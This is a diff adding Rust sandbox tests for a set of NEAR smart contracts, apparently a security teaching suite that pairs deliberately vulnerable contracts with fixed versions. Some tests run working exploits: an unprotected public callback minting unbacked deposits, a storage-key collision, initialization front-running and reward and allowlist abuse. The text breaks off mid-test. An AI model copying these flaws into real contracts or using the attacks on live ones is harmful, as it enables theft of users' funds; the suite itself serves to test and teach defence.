+            .view("view_rewards")
+            .args_json(json!({"account":staker.id(), "validator":"test.near"}))
+            .await?
+            .json::<U128>()
+            .unwrap();
+
+        assert_eq!(staker_rewards.0, 0);
+    }
+
+    let res = stakers[0]
+        .call(staking_contract.id(), "claim_rewards")
+        .args_json(json!({"validator":"test.near"}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Claimed rewards twice");
+    assert!(format!("{:?}", res.failures()).contains("Nothing to claim"));
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn staking_payouts_restore_on_failure() -> anyhow::Result<()> {
+    let (worker, deposit_contract, staking_contract, _) = prepare_race_condition().await?;
+
+    let distributor = worker.dev_create_account().await?;
+    let claimer = worker.dev_create_account().await?;
+    let withdrawer = worker.dev_create_account().await?;
+
+    for staker in [&claimer, &withdrawer] {
+        let res = staker
+            .call(deposit_contract.id(), "deposit_near")
+            .deposit(ONE_NEAR * 5)
+            .transact().await?;
+
+        assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+        let res = staker
+            .call(deposit_contract.id(), "stake")
+            .args_json(json!({"validator":"test.near", "amount":U128::from(ONE_NEAR * 5)}))
+            .gas(DEPOSIT_STAKE_GAS)
+            .transact().await?;
+
+        assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+    }
+
+    let res = distributor
+        .call(staking_contract.id(), "distribute_rewards")
+        .args_json(json!({"validator":"test.near"}))
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Distribution Failed: {:?}", res.failures());
+
+    /*****============== Claim to a deleted account ==============*****/
+    let rewards_before = staking_contract
+        .view("view_rewards")
+        .args_json(json!({"account":claimer.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert!(rewards_before.0 > 0, "No rewards to claim");
+
+    // Transfer receipt reaches `claimer` at least two blocks after the claim transaction,
+    // the deletion sent right after it is executed before that.
+    let claim = claimer
+        .call(staking_contract.id(), "claim_rewards")
+        .args_json(json!({"validator":"test.near"}))
+        .max_gas()
+        .transact_async().await?;
+
+    let res = claimer.clone().delete_account(distributor.id()).await?;
+
+    assert!(res.is_success(), "Delete Account Failed: {:?}", res.failures());
+
+    let res = claim.wait().await?;
+
+    assert!(res.is_success(), "Claim Failed: {:?}", res.failures());
+    assert!(!res.json::<bool>().unwrap(), "Transfer to deleted account succeeded");
+
+    let rewards_after = staking_contract
+        .view("view_rewards")
+        .args_json(json!({"account":claimer.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(rewards_after, rewards_before);
+
+    /*****============== Unstaked withdrawal to a deleted account ==============*****/
+    let res = withdrawer
+        .call(staking_contract.id(), "unstake")
+        .args_json(json!({"validator":"test.near", "amount":U128::from(ONE_NEAR * 5)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Unstake Failed: {:?}", res.failures());
+
+    let available_epoch = staking_contract
+        .view("view_unstaked_available_epoch")
+        .args_json(json!({"account":withdrawer.id(), "validator":"test.near"}))
+        .await?
+        .json::<Option<u64>>()
+        .unwrap()
+        .unwrap();
+
+    fast_forward_to_epoch(&worker, &staking_contract, available_epoch).await?;
+
+    let withdraw = withdrawer
+        .call(staking_contract.id(), "withdraw_unstaked")
+        .args_json(json!({"validator":"test.near"}))
+        .max_gas()
+        .transact_async().await?;
+
+    let res = withdrawer.clone().delete_account(distributor.id()).await?;
+
+    assert!(res.is_success(), "Delete Account Failed: {:?}", res.failures());
+
+    let res = withdraw.wait().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+    assert!(!res.json::<bool>().unwrap(), "Transfer to deleted account succeeded");
+
+    let unstaked_amount = staking_contract
+        .view("view_unstaked")
+        .args_json(json!({"account":withdrawer.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(unstaked_amount.0, ONE_NEAR * 5);
+
+    let is_available = staking_contract
+        .view("is_unstaked_available")
+        .args_json(json!({"account":withdrawer.id(), "validator":"test.near"}))
+        .await?
+        .json::<bool>()
+        .unwrap();
+
+    assert!(is_available, "Restored balance is locked again");
+
+    Ok(())
+}
+
+// Staking contract must hold at least the NEAR recorded in its stake map, on top of
+// what it had right after deployment
+async fn assert_staking_solvent(
+    staking_contract: &Contract,
+    initial_balance: u128,
+    stakers: &[Account]
+) -> anyhow::Result<()> {
+    let mut total_stake = 0;
+
+    for staker in stakers.iter() {
+        let stake = staking_contract
+            .call("view_stake")
+            .args_json(json!({"account":staker.id(), "validator":"test.near"}))
+            .transact().await?
+            .json::<U128>()
+            .unwrap();
+
+        total_stake += stake.0;
+    }
+
+    let balance = staking_contract.as_account().view_account().await?.balance;
+
+    assert!(
+        balance >= initial_balance + total_stake,
+        "Staking contract is insolvent. Balance: {}, Stakes: {}",
+        balance as i128 - initial_balance as i128,
+        total_stake
+    );
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn staking_solvency() -> anyhow::Result<()> {
+    let (worker, deposit_contract, staking_contract, _) = prepare_race_condition().await?;
+
+    let initial_balance = staking_contract.as_account().view_account().await?.balance;
+
+    /*****============== Stakes are backed by attached NEAR ==============*****/
+    let mut stakers: Vec<Account> = vec![];
+
+    for stake in [ONE_NEAR * 5, ONE_NEAR * 8, DEPOSIT_AMOUNT] {
+        let staker = worker.dev_create_account().await?;
+
+        let res = staker
+            .call(deposit_contract.id(), "deposit_near")
+            .deposit(stake)
+            .transact().await?;
+
+        assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+        let res = staker
+            .call(deposit_contract.id(), "stake")
+            .args_json(json!({"validator":"test.near", "amount":U128::from(stake)}))
+            .gas(DEPOSIT_STAKE_GAS)
+            .transact().await?;
+
+        assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+
+        stakers.push(staker);
+
+        assert_staking_solvent(&staking_contract, initial_balance, &stakers).await?;
+    }
+
+    /*****============== Stake without matching deposit ==============*****/
+    let res = deposit_contract
+        .as_account()
+        .call(staking_contract.id(), "stake")
+        .args_json(
+            json!({"beneficiary":stakers[0].id(), "validator":"test.near", "amount":U128::from(DEPOSIT_AMOUNT)})
+        )
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Staked without backing");
+    assert!(format!("{:?}", res.failures()).contains("Attached deposit does not match the amount"));
+
+    assert_staking_solvent(&staking_contract, initial_balance, &stakers).await?;
+
+    /*****============== Rewards, unstaking and withdrawals ==============*****/
+    let res = stakers[0]
+        .call(staking_contract.id(), "distribute_rewards")
+        .args_json(json!({"validator":"test.near"}))
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Distribution Failed: {:?}", res.failures());
+
+    assert_staking_solvent(&staking_contract, initial_balance, &stakers).await?;
+
+    let res = stakers[1]
+        .call(staking_contract.id(), "unstake")
+        .args_json(json!({"validator":"test.near", "amount":U128::from(ONE_NEAR * 3)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Unstake Failed: {:?}", res.failures());
+
+    assert_staking_solvent(&staking_contract, initial_balance, &stakers).await?;
+
+    let available_epoch = staking_contract
+        .view("view_unstaked_available_epoch")
+        .args_json(json!({"account":stakers[1].id(), "validator":"test.near"}))
+        .await?
+        .json::<Option<u64>>()
+        .unwrap()
+        .unwrap();
+
+    fast_forward_to_epoch(&worker, &staking_contract, available_epoch).await?;
+
+    let res = stakers[1]
+        .call(staking_contract.id(), "withdraw_unstaked")
+        .args_json(json!({"validator":"test.near"}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    assert_staking_solvent(&staking_contract, initial_balance, &stakers).await?;
+
+    for staker in stakers.iter() {
+        let res = staker
+            .call(staking_contract.id(), "claim_rewards")
+            .args_json(json!({"validator":"test.near"}))
+            .transact().await?;
+
+        assert!(res.is_success(), "Claim Failed: {:?}", res.failures());
+
+        assert_staking_solvent(&staking_contract, initial_balance, &stakers).await?;
+    }
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn staking_query_api() -> anyhow::Result<()> {
+    let (worker, deposit_contract, staking_contract, _) = prepare_race_condition().await?;
+
+    let validators = ["test.near", "other.near"];
+
+    let mut stakers: Vec<Account> = vec![];
+
+    for index in 1..=3 {
+        let staker = worker.dev_create_account().await?;
+
+        let res = staker
+            .call(deposit_contract.id(), "deposit_near")
+            .deposit(ONE_NEAR * 2 * index)
+            .transact().await?;
+
+        assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+        for validator in validators {
+            let res = staker
+                .call(deposit_contract.id(), "stake")
+                .args_json(json!({"validator":validator, "amount":U128::from(ONE_NEAR * index)}))
+                .gas(DEPOSIT_STAKE_GAS)
+                .transact().await?;
+
+            assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+        }
+
+        stakers.push(staker);
+    }
+
+    /*****============== Stake of an unknown pair is 0 ==============*****/
+    let stake = staking_contract
+        .view("view_stake")
+        .args_json(json!({"account":deposit_contract.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(stake.0, 0);
+
+    let stakers_count = staking_contract.view("view_stakers_count").await?.json::<u64>().unwrap();
+
+    assert_eq!(stakers_count, 3);
+
+    let total_staked = staking_contract
+        .view("view_total_staked")
+        .args_json(json!({"validator":"other.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(total_staked.0, ONE_NEAR * 6);
+
+    /*****============== Stakes per beneficiary ==============*****/
+    let stakes = staking_contract
+        .view("view_stakes_by_beneficiary")
+        .args_json(json!({"beneficiary":stakers[1].id()}))
+        .await?
+        .json::<Vec<(AccountId, U128)>>()
+        .unwrap();
+
+    assert_eq!(stakes.len(), 2);
+    assert!(stakes.iter().all(|(_, stake)| stake.0 == ONE_NEAR * 2));
+
+    /*****============== Stakes per validator, page by page ==============*****/
+    let mut beneficiaries: Vec<AccountId> = vec![];
+
+    for from_index in [0, 2] {
+        let page = staking_contract
+            .view("view_stakes_by_validator")
+            .args_json(json!({"validator":"test.near", "from_index":from_index, "limit":2}))
+            .await?
+            .json::<Vec<(AccountId, U128)>>()
+            .unwrap();
+
+        beneficiaries.extend(page.into_iter().map(|(beneficiary, _)| beneficiary));
+    }
+
+    assert_eq!(beneficiaries.len(), 3);
+    assert!(stakers.iter().all(|staker| beneficiaries.contains(staker.id())));
+
+    /*****============== Unstaking everything removes the stake from the indexes ==============*****/
+    let res = stakers[0]
+        .call(staking_contract.id(), "unstake")
+        .args_json(json!({"validator":"test.near", "amount":U128::from(ONE_NEAR)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Unstake Failed: {:?}", res.failures());
+
+    let stakes = staking_contract
+        .view("view_stakes_by_validator")
+        .args_json(json!({"validator":"test.near"}))
+        .await?
+        .json::<Vec<(AccountId, U128)>>()
+        .unwrap();
+
+    assert_eq!(stakes.len(), 2);
+    assert!(stakes.iter().all(|(beneficiary, _)| beneficiary != stakers[0].id()));
+
+    let stakers_count = staking_contract.view("view_stakers_count").await?.json::<u64>().unwrap();
+
+    // Still staked with the other validator
+    assert_eq!(stakers_count, 3);
+
+    let res = stakers[0]
+        .call(staking_contract.id(), "unstake")
+        .args_json(json!({"validator":"other.near", "amount":U128::from(ONE_NEAR)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Unstake Failed: {:?}", res.failures());
+
+    let stakers_count = staking_contract.view("view_stakers_count").await?.json::<u64>().unwrap();
+
+    assert_eq!(stakers_count, 2);
+
+    let stakes = staking_contract
+        .view("view_stakes_by_beneficiary")
+        .args_json(json!({"beneficiary":stakers[0].id()}))
+        .await?
+        .json::<Vec<(AccountId, U128)>>()
+        .unwrap();
+
+    assert!(stakes.is_empty());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn staking_allowlist() -> anyhow::Result<()> {
+    let (worker, deposit_contract, staking_contract, exploit_contract) =
+        prepare_race_condition().await?;
+
+    // Staking contract is its own owner in the tests
+    let owner = staking_contract.as_account();
+
+    let is_allowlisted = staking_contract
+        .view("is_allowlisted")
+        .args_json(json!({"account":deposit_contract.id()}))
+        .await?
+        .json::<bool>()
+        .unwrap();
+
+    assert!(is_allowlisted, "Deposit contract is not allowlisted");
+
+    /*****============== Only the owner manages the allowlist ==============*****/
+    let res = exploit_contract
+        .as_account()
+        .call(staking_contract.id(), "add_to_allowlist")
+        .args_json(json!({"account":exploit_contract.id()}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Non-owner changed the allowlist");
+    assert!(format!("{:?}", res.failures()).contains("Only owner can call this function"));
+
+    /*****============== Rotating the deposit contract ==============*****/
+    let new_deposit_contract = worker.dev_deploy(DEPOSIT_CONTRACT).await?;
+
+    let _ = new_deposit_contract
+        .call("new")
+        .args_json(json!({"staking_contract": staking_contract.id(),}))
+        .transact().await?;
+
+    let res = owner
+        .call(staking_contract.id(), "add_to_allowlist")
+        .args_json(json!({"account":new_deposit_contract.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Add Failed: {:?}", res.failures());
+    assert!(res.json::<bool>()?);
+    assert!(
+        res.logs().iter().any(|log| log.starts_with("EVENT_JSON") && log.contains("allowlist_add")),
+        "No allowlist_add event: {:?}",
+        res.logs()
+    );
+
+    let res = owner
+        .call(staking_contract.id(), "remove_from_allowlist")
+        .args_json(json!({"account":deposit_contract.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Remove Failed: {:?}", res.failures());
+    assert!(res.json::<bool>()?);
+    assert!(
+        res.logs().iter().any(|log| log.starts_with("EVENT_JSON") && log.contains("allowlist_remove")),
+        "No allowlist_remove event: {:?}",
+        res.logs()
+    );
+
+    /*****============== Removed caller is denied ==============*****/
+    let res = deposit_contract
+        .as_account()
+        .call(staking_contract.id(), "stake")
+        .args_json(
+            json!({"beneficiary":exploit_contract.id(), "validator":"test.near", "amount":U128::from(ONE_NEAR)})
+        )
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Removed caller staked");
+    assert!(format!("{:?}", res.failures()).contains("ACCESS DENIED"));
+
+    /*****============== New deposit contract can stake ==============*****/
+    let user = exploit_contract.as_account();
+
+    let res = user
+        .call(new_deposit_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    let res = user
+        .call(new_deposit_contract.id(), "stake")
+        .args_json(json!({"validator":"test.near", "amount":U128::from(DEPOSIT_AMOUNT)}))
+        .gas(DEPOSIT_STAKE_GAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+
+    let staked_amount = staking_contract
+        .view("view_stake")
+        .args_json(json!({"account":user.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(staked_amount.0, DEPOSIT_AMOUNT);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_public_callback() -> anyhow::Result<()> {
+    let (vault_contract, exploit_contract, _) = prepare_public_callback(
+        PUBLIC_CALLBACK_CONTRACT
+    ).await?;
+
+    // Exploit contract never deposited anything
+    let res = exploit_contract
+        .call("exploit")
+        .args_json(json!({"addr":vault_contract.id(), "amount":U128::from(DEPOSIT_AMOUNT)}))
+        .max_gas()
+        .transact().await?;
+
+    println!("Exploit Logs: {:?}", res.logs());
+
+    assert!(res.json::<bool>()?, "Callback was not reached");
+
+    let exploit_deposit = vault_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":exploit_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(exploit_deposit.0, DEPOSIT_AMOUNT);
+
+    let balance_before = exploit_contract.as_account().view_account().await?.balance;
+
+    // Minted balance is backed by the honest user's NEAR
+    let res = exploit_contract
+        .as_account()
+        .call(vault_contract.id(), "withdraw_near")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    let balance_after = exploit_contract.as_account().view_account().await?.balance;
+
+    assert!(balance_after > balance_before + DEPOSIT_AMOUNT - ONE_NEAR, "Nothing was stolen");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_public_callback_secured() -> anyhow::Result<()> {
+    let (vault_contract, exploit_contract, user) = prepare_public_callback(
+        PUBLIC_CALLBACK_CONTRACT_SECURED
+    ).await?;
+
+    let res = exploit_contract
+        .call("exploit")
+        .args_json(json!({"addr":vault_contract.id(), "amount":U128::from(DEPOSIT_AMOUNT)}))
+        .max_gas()
+        .transact().await?;
+
+    println!("Exploit Logs: {:?}", res.logs());
+
+    assert!(!res.json::<bool>()?, "Private callback was reached");
+    assert!(format!("{:?}", res.failures()).contains("Method on_withdraw is private"));
+
+    let exploit_deposit = vault_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":exploit_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(exploit_deposit.0, 0);
+
+    let res = exploit_contract
+        .as_account()
+        .call(vault_contract.id(), "withdraw_near")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Withdrew without a deposit");
+
+    // Regular withdrawals still go through the callback
+    let res = user
+        .call(vault_contract.id(), "withdraw_near")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+    assert!(res.json::<bool>()?, "Withdraw callback failed");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_access_control_near_bindgen() -> anyhow::Result<()> {
+    /*****============== Vulnerable contract: anyone can pause ==============*****/
+    let (contract, _, caller) = prepare_access_control_bindgen(ACCESS_CONTROL_BINDGEN_CONTRACT).await?;
+
+    let res = caller.call(contract.id(), "pause").transact().await?;
+
+    assert!(res.is_success(), "Pause Failed: {:?}", res.failures());
+    println!("Pause Logs: {:?}", res.logs());
+
+    let pause_status = contract.view("get_pause_status").await?.json::<bool>().unwrap();
+
+    assert!(pause_status, "Could not pause contract");
+
+    let res = caller.call(contract.id(), "get_data").transact().await?;
+
+    assert!(res.is_failure(), "Paused contract returned data");
+    assert!(format!("{:?}", res.failures()).contains("Function is paused"));
+
+    let res = caller.call(contract.id(), "unpause").transact().await?;
+
+    assert!(res.is_success(), "Unpause Failed: {:?}", res.failures());
+
+    /*****============== Secured contract: pause is not exported ==============*****/
+    let (contract, owner, caller) = prepare_access_control_bindgen(
+        ACCESS_CONTROL_BINDGEN_CONTRACT_SECURED
+    ).await?;
+
+    for method in ["pause", "unpause", "toggle_pause"] {
+        let res = caller.call(contract.id(), method).transact().await?;
+
+        assert!(res.is_failure(), "{} is exported", method);
+        assert!(format!("{:?}", res.failures()).contains("MethodNotFound"));
+    }
+
+    let pause_status = contract.view("get_pause_status").await?.json::<bool>().unwrap();
+
+    assert!(!pause_status, "Contract was paused");
+
+    let res = caller.call(contract.id(), "pub_toggle_pause").transact().await?;
+
+    assert!(res.is_failure(), "Non-owner paused the contract");
+
+    let res = owner.call(contract.id(), "pub_toggle_pause").transact().await?;
+
+    assert!(res.is_success(), "Toggle Pause Failed: {:?}", res.failures());
+
+    let pause_status = contract.view("get_pause_status").await?.json::<bool>().unwrap();
+
+    assert!(pause_status, "Owner could not pause contract");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_storage_collision() -> anyhow::Result<()> {
+    let (ledger_contract, alice, bob) = prepare_storage_collision(STORAGE_COLLISION_CONTRACT).await?;
+
+    let bob_balance_key = account_storage_key(b"u", bob.id());
+
+    let state = ledger_contract.view_state().await?;
+
+    assert_eq!(state.get(&bob_balance_key), Some(&ONE_NEAR.to_le_bytes().to_vec()));
+
+    // Alice's approval is written over Bob's balance
+    let res = alice
+        .call(ledger_contract.id(), "approve")
+        .args_json(json!({"spender":bob.id(), "amount":U128::from(DEPOSIT_AMOUNT * 5)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Approve Failed: {:?}", res.failures());
+
+    let state = ledger_contract.view_state().await?;
+
+    // Balance and allowance are the very same entry
+    assert_eq!(
+        state.get(&bob_balance_key),
+        Some(&(DEPOSIT_AMOUNT * 5).to_le_bytes().to_vec())
+    );
+    assert_eq!(
+        state
+            .keys()
+            .filter(|key| key.ends_with(bob.id().as_bytes()))
+            .count(),
+        1
+    );
+
+    let bob_balance = ledger_contract
+        .view("view_balance")
+        .args_json(json!({"account":bob.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(bob_balance.0, DEPOSIT_AMOUNT * 5);
+
+    // Bob withdraws Alice's deposit without touching the allowance
+    let res = bob
+        .call(ledger_contract.id(), "withdraw_near")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_storage_collision_secured() -> anyhow::Result<()> {
+    let (ledger_contract, alice, bob) = prepare_storage_collision(
+        STORAGE_COLLISION_CONTRACT_SECURED
+    ).await?;
+
+    let res = alice
+        .call(ledger_contract.id(), "approve")
+        .args_json(json!({"spender":bob.id(), "amount":U128::from(DEPOSIT_AMOUNT * 5)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Approve Failed: {:?}", res.failures());
+
+    let state = ledger_contract.view_state().await?;
+
+    // `LedgerStorageKey::Balances` is variant 0, `LedgerStorageKey::Allowance` is variant 2
+    let bob_balance_key = account_storage_key(&[0], bob.id());
+    let bob_allowance_key = [
+        account_storage_key(&[2], alice.id()),
+        account_storage_key(&[], bob.id()),
+    ].concat();
+
+    assert_eq!(state.get(&bob_balance_key), Some(&ONE_NEAR.to_le_bytes().to_vec()));
+    assert_eq!(
+        state.get(&bob_allowance_key),
+        Some(&(DEPOSIT_AMOUNT * 5).to_le_bytes().to_vec())
+    );
+
+    let bob_balance = ledger_contract
+        .view("view_balance")
+        .args_json(json!({"account":bob.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(bob_balance.0, ONE_NEAR);
+
+    let res = bob
+        .call(ledger_contract.id(), "withdraw_near")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Withdrew more than deposited");
+    assert!(format!("{:?}", res.failures()).contains("Not enough money"));
+
+    // The allowance is spent through `transfer_from` only
+    let res = bob
+        .call(ledger_contract.id(), "transfer_from")
+        .args_json(
+            json!({"owner":alice.id(), "receiver":bob.id(), "amount":U128::from(ONE_NEAR)})
+        )
+        .transact().await?;
+
+    assert!(res.is_success(), "Transfer Failed: {:?}", res.failures());
+
+    let bob_balance = ledger_contract
+        .view("view_balance")
+        .args_json(json!({"account":bob.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(bob_balance.0, ONE_NEAR * 2);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn upgrade_breaks_state() -> anyhow::Result<()> {
+    let (contract, alice, _) = prepare_upgrade().await?;
+
+    /*****============== Deploying v2 over v1 state ==============*****/
+    let res = contract.as_account().deploy(UPGRADE_V2_CONTRACT).await?;
+
+    assert!(res.is_success(), "Deploy Failed: {:?}", res.details);
+
+    let res = contract
+        .view("get_message")
+        .args_json(json!({"account":alice.id()}))
+        .await;
+
+    assert!(res.is_err(), "Old state was read by v2");
+    assert!(format!("{:?}", res.unwrap_err()).contains("Cannot deserialize the contract state"));
+
+    let res = alice
+        .call(contract.id(), "set_message")
+        .args_json(json!({"message": "Hello again"}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Bricked contract accepted a message");
+    assert!(format!("{:?}", res.failures()).contains("Cannot deserialize the contract state"));
+
+    // The state exists, so the contract can not be initialized again either
+    let res = contract
+        .call("new")
+        .args_json(json!({"owner": contract.id()}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Contract was initialized twice");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn upgrade_with_migration() -> anyhow::Result<()> {
+    let (contract, alice, bob) = prepare_upgrade().await?;
+
+    /*****============== Deploying v2 and migrating in one batch ==============*****/
+    let res = contract
+        .as_account()
+        .batch(contract.id())
+        .deploy(UPGRADE_V2_CONTRACT_SECURED)
+        .call(Function::new("migrate").gas(100 * TGAS))
+        .transact().await?;
+
+    assert!(res.is_success(), "Upgrade Failed: {:?}", res.failures());
+
+    let version = contract.view("get_version").await?.json::<u32>().unwrap();
+
+    assert_eq!(version, 2);
+
+    let message = contract
+        .view("get_message")
+        .args_json(json!({"account":alice.id()}))
+        .await?
+        .json::<Option<String>>()
+        .unwrap();
+
+    assert_eq!(message, Some("Hello from Alice".to_string()));
+
+    let messages_count = contract.view("get_messages_count").await?.json::<u64>().unwrap();
+
+    assert_eq!(messages_count, 2);
+
+    let owner = contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&owner, contract.id());
+
+    /*****============== v2 methods work on the migrated state ==============*****/
+    let res = bob
+        .call(contract.id(), "set_message")
+        .args_json(json!({"message": "a".repeat(281)}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Message length is not enforced");
+    assert!(format!("{:?}", res.failures()).contains("Message is too long"));
+
+    let res = bob
+        .call(contract.id(), "set_message")
+        .args_json(json!({"message": "Hello from Bob, v2"}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Set Message Failed: {:?}", res.failures());
+
+    /*****============== Migration can not be repeated or called by others ==============*****/
+    let res = alice.call(contract.id(), "migrate").transact().await?;
+
+    assert!(res.is_failure(), "Non-contract account migrated");
+    assert!(format!("{:?}", res.failures()).contains("Method migrate is private"));
+
+    let res = contract.call("migrate").max_gas().transact().await?;
+
+    assert!(res.is_failure(), "State was migrated twice");
+    assert!(format!("{:?}", res.failures()).contains("Already migrated"));
+
+    let message = contract
+        .view("get_message")
+        .args_json(json!({"account":bob.id()}))
+        .await?
+        .json::<Option<String>>()
+        .unwrap();
+
+    assert_eq!(message, Some("Hello from Bob, v2".to_string()));
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn init_front_running() -> anyhow::Result<()> {
+    let worker = workspaces::sandbox().await?;
+    let contract = worker.dev_deploy(INIT_FRONT_RUNNING_CONTRACT).await?;
+    let attacker = worker.dev_create_account().await?;
+
+    /*****============== Attacker initializes before the deployer ==============*****/
+    let res = attacker
+        .call(contract.id(), "new")
+        .args_json(json!({"owner": attacker.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Front-running Failed: {:?}", res.failures());
+
+    let res = contract
+        .call("new")
+        .args_json(json!({"owner": contract.id()}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Contract was initialized twice");
+    assert!(format!("{:?}", res.failures()).contains("The contract has already been initialized"));
+
+    let owner = contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&owner, attacker.id());
+
+    /*****============== Attacker takes the funds sent afterwards ==============*****/
+    let res = contract
+        .as_account()
+        .call(contract.id(), "fund")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Fund Failed: {:?}", res.failures());
+
+    let res = attacker
+        .call(contract.id(), "withdraw")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn init_front_running_secured() -> anyhow::Result<()> {
+    let worker = workspaces::sandbox().await?;
+    let contract = worker.dev_deploy(INIT_FRONT_RUNNING_CONTRACT_SECURED).await?;
+    let attacker = worker.dev_create_account().await?;
+
+    let res = attacker
+        .call(contract.id(), "new")
+        .args_json(json!({"owner": attacker.id()}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Attacker initialized the contract");
+    assert!(format!("{:?}", res.failures()).contains("Method new is private"));
+
+    let res = contract
+        .call("new")
+        .args_json(json!({"owner": contract.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Init Failed: {:?}", res.failures());
+
+    let owner = contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&owner, contract.id());
+
+    let res = attacker
+        .call(contract.id(), "withdraw")
+        .args_json(json!({"amount":U128::from(ONE_NEAR)}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Attacker withdrew from the contract");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn init_front_running_batch() -> anyhow::Result<()> {
+    let worker = workspaces::sandbox().await?;
+    let deployer = worker.dev_create_account().await?;
+    let attacker = worker.dev_create_account().await?;
+
+    // Vulnerable code, but deployment and initialization happen in the same transaction
+    let res = deployer
+        .batch(deployer.id())
+        .deploy(INIT_FRONT_RUNNING_CONTRACT)
+        .call(Function::new("new").args_json(json!({"owner": deployer.id()})))
+        .transact().await?;
+
+    assert!(res.is_success(), "Deploy and Init Failed: {:?}", res.failures());
+
+    let res = attacker
+        .call(deployer.id(), "new")
+        .args_json(json!({"owner": attacker.id()}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Contract was initialized twice");
+    assert!(format!("{:?}", res.failures()).contains("The contract has already been initialized"));
+
+    let owner = attacker
+        .view(deployer.id(), "get_owner").await?
+        .json::<AccountId>()
+        .unwrap();
+
+    assert_eq!(&owner, deployer.id());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_one_yocto() -> anyhow::Result<()> {
+    let (vault_contract, owner, leaked_key_owner, attacker) = prepare_one_yocto(
+        ONE_YOCTO_CONTRACT
+    ).await?;
+
+    /*****============== Limited key moves the owner's funds ==============*****/
+    let res = leaked_key_owner
